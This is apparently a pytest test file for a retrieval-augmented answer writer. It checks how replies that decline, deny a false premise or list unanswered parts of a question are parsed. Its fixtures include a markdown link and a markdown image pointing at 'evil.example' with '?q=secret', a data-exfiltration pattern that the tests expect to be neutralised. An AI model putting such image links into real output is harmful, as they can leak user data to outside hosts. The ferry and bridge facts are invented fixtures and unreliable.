"""A model that says no, of all or of a part of a question, or denies what the question assumes."""

from __future__ import annotations

import pytest

from rag.answers import Decline, Evidence
from rag.parts import UNNAMED
from rag.run import Run
from tests.rag.writing import BRIDGE, answerer, claims, outcome, written
from tests.servers.openai_server import OpenAIServer


@pytest.mark.parametrize(
    "reply", ["NOT IN THE SOURCES", "The sources do not mention the price of the ferry."]
)
def test_it_may_say_that_the_sources_do_not_answer(
    server: OpenAIServer, found: list[Evidence], reply: str
) -> None:
    pieces = written(server, reply, found)
    assert claims(pieces) == []
    assert outcome(pieces).decline is Decline.NOT_IN_SOURCES


def test_what_it_says_after_no_is_not_read(server: OpenAIServer, found: list[Evidence]) -> None:
    pieces = written(server, "NOT IN THE SOURCES\n\nBut ferries sink often [S1].", found)
    assert claims(pieces) == []


def test_a_false_premise_quotes_what_the_sources_say(
    server: OpenAIServer, found: list[Evidence]
) -> None:
    pieces = written(server, "PREMISE: The bridge has not been rebuilt [S2].", found)
    assert outcome(pieces).decline is Decline.PREMISE_NOT_IN_SOURCES
    ((source, span),) = outcome(pieces).nearest
    assert span.of(source.document.text) == BRIDGE


SENTENCE = "The bridge at Halmet was blown up in 2021 [S2]."
DENIED = "PREMISE: The bridge has not been rebuilt [S2]."


@pytest.mark.parametrize("reply", [f"{DENIED}\n{SENTENCE}", f"{SENTENCE}\n{DENIED}"])
def test_a_false_premise_counts_before_and_after_sentences(
    server: OpenAIServer, found: list[Evidence], reply: str
) -> None:
    pieces = written(server, reply, found)
    assert len(claims(pieces)) == 1
    assert outcome(pieces).decline is Decline.PREMISE_NOT_IN_SOURCES
    assert [span.of(e.document.text) for e, span in outcome(pieces).nearest] == [BRIDGE]


@pytest.mark.parametrize(
    "premise", ["none", "N/A.", "There is no false premise.", "Elephants own Peru [S1]."]
)
def test_a_premise_that_the_sources_do_not_deny_takes_nothing_back(
    server: OpenAIServer, found: list[Evidence], premise: str
) -> None:
    pieces = written(server, f"PREMISE: {premise}\n{SENTENCE}", found)
    assert len(claims(pieces)) == 1
    assert outcome(pieces).decline is None


PARTS = {
    "MISSING: who owned it": ("who owned it",),
    "MISSING: who [owned](https://evil.example) the **ferry**? [S2]": ("who owned the ferry?",),
    "The sources do not say who owned the ferry.": ("who owned the ferry",),
    "MISSING: the price of the ferry": (UNNAMED,),
    "MISSING: whether the ferry had 74 owners": (UNNAMED,),
    "MISSING: ![](https://evil.example/?q=secret)": (UNNAMED,),
    "The sources do not mention that the minister sank it.": (UNNAMED,),
    f"MISSING: {'the ferry and ' * 20}": (UNNAMED,),
    "MISSING: who owned it\nMISSING: the price\nMISSING: the minister": ("who owned it", UNNAMED),
    "MISSING: None.": (),
    "MISSING: –": (),
}


@pytest.mark.parametrize("reply", PARTS)
def test_a_part_without_an_answer_is_named_in_the_words_of_the_question(
    server: OpenAIServer, found: list[Evidence], reply: str
) -> None:
    server.script = lambda request: f"The ferry sank on 22 August [S1].\n{reply}"
    asked = "What happened to the ferry, and who owned it?"
    pieces = list(answerer(server).write(asked, found, Run()))
    assert len(claims(pieces)) == 1
    assert outcome(pieces).missing == PARTS[reply]
